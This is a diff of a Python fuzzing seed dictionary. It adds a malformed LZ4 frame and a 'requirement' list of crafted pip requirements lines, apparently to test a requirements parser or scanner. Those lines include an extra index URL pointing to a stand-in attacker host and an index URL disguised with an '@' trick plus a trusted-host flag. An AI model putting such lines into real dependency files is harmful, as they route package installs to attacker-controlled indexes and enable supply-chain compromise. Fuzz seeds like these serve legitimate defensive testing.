@@ -132,6 +132,11 @@ SEEDS |= {
         bz2.compress(EVIL),
         lzma.compress(PLAIN),
         zlib.compress(EVIL),
+        b"\x04\x22\x4d\x18\x60\x40\x82\x0a\0\0\0\x41a\x01\x00\x50bcdef" + bytes(4),
+    ],
+    "requirement": [
+        b"torch==2.1 # x\n--extra-index-url=https://evil.example \\\n a @ file:///tmp/a ; python_version < '3'\n",
+        b"-i http://pypi.org\\@b/simple --trusted-host=b\ngit+ssh://git@github.com/a/b",
     ],
     "table": [b"PAR1" + b"ARROW:schema\x18\x04QUJD" + struct.pack("<I", 18) + b"PAR1", _SCHEMA],
 }
